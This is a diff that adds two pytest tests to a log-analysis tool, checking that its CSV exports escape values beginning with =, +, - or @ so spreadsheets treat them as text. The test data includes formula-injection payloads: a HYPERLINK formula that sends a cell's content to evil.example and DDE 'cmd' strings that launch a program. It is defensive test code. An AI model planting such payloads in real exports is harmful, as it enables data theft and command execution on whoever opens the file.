@@ -425,3 +425,27 @@ def test_the_catalogue_is_data():
     from rca.table.redact import CATALOGUE
 
     assert len(CATALOGUE["rules"]) >= 15 and all({"kind", "from", "pattern", "replace"} <= set(r) for r in CATALOGUE["rules"])
+
+
+def test_a_log_line_written_as_a_spreadsheet_formula_is_a_text_cell_in_the_patterns_csv(tmp_path, rca):
+    import csv
+
+    log = tmp_path / "app.log"
+    log.write_text('=HYPERLINK("http://evil.example/?x="&A1,"click")\n+cmd|\' /C calc\'!A0\n@SUM(1+1)\nplain line 7\n')
+    run = rca("patterns", str(log), "-f", "csv")
+    assert run.code == 0, run.stderr
+    templates = [row["template"] for row in csv.DictReader(run.stdout.splitlines())]
+    assert len(templates) == 4 and not any(t[:1] in "=+-@" for t in templates)
+    assert templates[3] == "plain line <*>"
+
+
+def test_a_value_written_as_a_spreadsheet_formula_is_a_text_cell_in_the_history_csv():
+    import csv
+
+    from rca.history.review import _render
+
+    text = _render([{"outage": "=cmd|' /C calc'!A0.jsonl", "component": "+evil", "affected_requests": -3}], [],
+                   "csv", "incidents")
+    (row,) = csv.DictReader(text.splitlines())
+    assert row["outage"] == "'=cmd|' /C calc'!A0.jsonl" and row["component"] == "'+evil"
+    assert row["affected_requests"] == "-3"
